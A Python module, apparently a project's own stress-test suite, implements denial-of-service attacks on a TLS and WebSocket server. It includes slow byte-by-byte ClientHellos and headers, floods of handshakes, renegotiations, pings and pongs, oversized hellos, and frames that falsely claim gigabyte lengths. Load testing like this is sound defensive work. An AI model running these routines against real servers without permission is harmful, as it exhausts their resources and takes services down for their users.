"""Attacks over TCP: TLS that never ends, HTTP that never ends, and WebSocket frames that no honest client sends."""

from __future__ import annotations

import os
import random
import select
import socket
from collections import Counter
from collections.abc import Callable

from OpenSSL import SSL

from attacks.handmade import TCP_HEADERS_BYTES, Address, Counts, HandmadeTls, Pace, tls_context
from lanline.proto.channels import Channel
from lanline.proto.websocket.units import encode_credit

_REQUEST = (
    b"GET / HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Protocol: lanline.1\r\n"
)
_CONNECTIONS = 300
_HELLO_HEAD = b"\x16\x03\x01"
_RECORD_BYTES = 16_384
_MOST_PINGS = 250
_ANSWER_S = 0.005
_BINARY, _CONTINUED, _PING, _PONG = 2, 0, 9, 10


def frame(opcode: int, data: bytes, *, flags: int = 0x80, claims_bytes: int | None = None) -> bytes:
    """A masked frame, the mask all zeros (RFC 6455, 5.2)."""
    size = len(data) if claims_bytes is None else claims_bytes
    if size < 126:
        head = bytes([flags | opcode, 0x80 | size])
    elif size < 65_536:
        head = bytes([flags | opcode, 0xFE]) + size.to_bytes(2, "big")
    else:
        head = bytes([flags | opcode, 0xFF]) + size.to_bytes(8, "big")
    return head + bytes(4) + data


def _drip(
    address: Address, pace: Pace, begin: Callable[[HandmadeTls], bool], drop: Callable[[HandmadeTls], None]
) -> Counts:
    """Many connections are held, and each is given a little from time to time."""
    counts: Counts = Counter()
    held: list[HandmadeTls] = []
    turn = 0
    try:
        while pace.wait(200, TCP_HEADERS_BYTES):
            turn += 1
            if len(held) < _CONNECTIONS:
                made = HandmadeTls(address, counts)
                if made.is_open and begin(made):
                    held.append(made)
                else:
                    made.close()
            if held:
                one = held[turn % len(held)]
                drop(one)
                if select.select([one.socket], [], [], 0)[0] and not one.receive():
                    counts["ended"] += 1
                    one.close()
                    held.remove(one)
            counts["most_held"] = max(counts["most_held"], len(held))
    finally:
        for one in held:
            one.close()
    return counts


def slow_tls(address: Address, stop_after_s: float, bits_per_s: float) -> Counts:
    """Connections whose ClientHello comes byte by byte."""

    def begin(made: HandmadeTls) -> bool:
        made.send(_HELLO_HEAD + (512).to_bytes(2, "big") + b"\1\0\1\xfc\3\3")
        return made.is_open

    return _drip(address, Pace(stop_after_s, bits_per_s), begin, lambda one: one.send(b"\0"))


def slow_headers(address: Address, stop_after_s: float, bits_per_s: float) -> Counts:
    """TLS is finished, and then the headers of the request come byte by byte, a record each."""

    def begin(made: HandmadeTls) -> bool:
        if not made.secure():
            return False
        made.send_sealed(_REQUEST + b"X-Slow: ")
        return made.is_open

    return _drip(address, Pace(stop_after_s, bits_per_s), begin, lambda one: one.send_sealed(b"a"))


def many_headers(address: Address, stop_after_s: float, bits_per_s: float) -> Counts:
    """Requests with more headers, and longer ones, than anybody needs."""
    lines = b"".join(b"X-%d: a\r\n" % number for number in range(2000))
    request = _REQUEST + lines + b"\r\n"
    pace = Pace(stop_after_s, bits_per_s)
    return _in_tls(address, pace, lambda made: made.send_sealed(request), cost_bytes=3000 + len(request))


def tls_handshakes(address: Address, stop_after_s: float, bits_per_s: float) -> Counts:
    """Whole TLS handshakes, one after the other, each left at once."""
    return _in_tls(address, Pace(stop_after_s, bits_per_s), lambda made: None)


def tls_renegotiation(address: Address, stop_after_s: float, bits_per_s: float) -> Counts:
    """TLS 1.2, which could be renegotiated, is asked for."""
    context = SSL.Context(SSL.TLS_METHOD)
    context.set_max_proto_version(SSL.TLS1_2_VERSION)

    def act(made: HandmadeTls, counts: Counts) -> None:
        counts["agreed"] += made.secure(context)

    return _over_tcp(address, Pace(stop_after_s, bits_per_s), act, cost_bytes=400)


def oversized_client_hello(address: Address, stop_after_s: float, bits_per_s: float) -> Counts:
    """A ClientHello of 100 kB, which OpenSSL would take, sent as long as somebody reads."""
    body = b"\1\1\x86\xa0\3\3" + os.urandom(32)
    piece = _HELLO_HEAD + _RECORD_BYTES.to_bytes(2, "big") + bytes(_RECORD_BYTES)
    first = _HELLO_HEAD + len(body).to_bytes(2, "big") + body
    pace = Pace(stop_after_s, bits_per_s)

    def act(made: HandmadeTls, counts: Counts) -> None:
        made.send(first)
        while made.is_open and pace.wait(len(piece), TCP_HEADERS_BYTES):
            made.send(piece)
            counts["pieces"] += 1
            if select.select([made.socket], [], [], 0)[0]:
                made.receive()

    return _over_tcp(address, pace, act, cost_bytes=200)


def pings(address: Address, stop_after_s: float, bits_per_s: float) -> Counts:
    """As many empty pings in each record as are answered; the next record once they have been."""
    return _frames(address, Pace(stop_after_s, bits_per_s), lambda _: frame(_PING, b"") * _MOST_PINGS, waits=True)


def pongs(address: Address, stop_after_s: float, bits_per_s: float) -> Counts:
    """Empty pongs that nobody asked for."""
    return _frames(address, Pace(stop_after_s, bits_per_s), lambda _: frame(_PONG, b"") * (_MOST_PINGS * 4))


def tiny_units(address: Address, stop_after_s: float, bits_per_s: float) -> Counts:
    """CREDIT after CREDIT, each a frame of its own."""
    rng = random.Random(10)

    def make(number: int) -> bytes:
        channel = rng.choice((Channel.CONTROL, Channel.CHAT, Channel.BULK))
        return b"".join(frame(_BINARY, encode_credit(channel, 10**6 + 100 * number + each)) for each in range(80))

    return _frames(address, Pace(stop_after_s, bits_per_s), make)


def giant_frames(address: Address, stop_after_s: float, bits_per_s: float) -> Counts:
    """Frames that say they have gigabytes, or come in fragments without an end."""

    def make(number: int) -> bytes:
        if number % 2:
            return frame(_BINARY, bytes(1000), claims_bytes=2**40)
        return frame(_BINARY, bytes(1000), flags=0) + frame(_CONTINUED, bytes(1000), flags=0) * 8

    return _frames(address, Pace(stop_after_s, bits_per_s), make)


def compression(address: Address, stop_after_s: float, bits_per_s: float) -> Counts:
    """Compression is offered, and frames that say they are compressed follow."""
    offer = b"Sec-WebSocket-Extensions: permessage-deflate\r\n"
    return _frames(
        address, Pace(stop_after_s, bits_per_s), lambda _: frame(_BINARY, bytes(1000), flags=0xC0), headers=offer
    )


def _frames(
    address: Address, pace: Pace, make: Callable[[int], bytes], headers: bytes = b"", *, waits: bool = False
) -> Counts:
    """Frames over one link of a stranger; over a new one where the server has ended the last."""

    def act(made: HandmadeTls, counts: Counts) -> None:
        if not made.secure():
            counts["refused"] += 1
            return
        made.send_sealed(_REQUEST + headers + b"\r\n")
        answer = b""
        while made.is_open and b"\r\n\r\n" not in answer:
            select.select([made.socket], [], [], 0.2)
            answer += made.read_sealed()
        counts["opened"] += answer.startswith(b"HTTP/1.1 101")
        counts["compressed"] += b"permessage-deflate" in answer
        while made.is_open and pace.wait(len(data := make(counts["sent_frames"])), TCP_HEADERS_BYTES):
            made.send_sealed(data)
            counts["sent_frames"] += 1
            if waits:
                select.select([made.socket], [], [], _ANSWER_S)
            made.read_sealed()

    return _over_tcp(address, pace, act, cost_bytes=3000)


def _in_tls(address: Address, pace: Pace, act: Callable[[HandmadeTls], None], cost_bytes: int = 3000) -> Counts:
    def secure_first(made: HandmadeTls, counts: Counts) -> None:
        if made.secure(tls_context()):
            counts["secured"] += 1
            act(made)

    return _over_tcp(address, pace, secure_first, cost_bytes)


def _over_tcp(address: Address, pace: Pace, act: Callable[[HandmadeTls, Counts], None], cost_bytes: int) -> Counts:
    counts: Counts = Counter()
    while pace.wait(cost_bytes, 10 * TCP_HEADERS_BYTES):
        made = HandmadeTls(address, counts)
        if made.is_open:
            # Without a goodbye, so that no port of ours stays taken.
            made.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
            act(made, counts)
            counts["ended"] += not made.is_open
        made.close()
    return counts
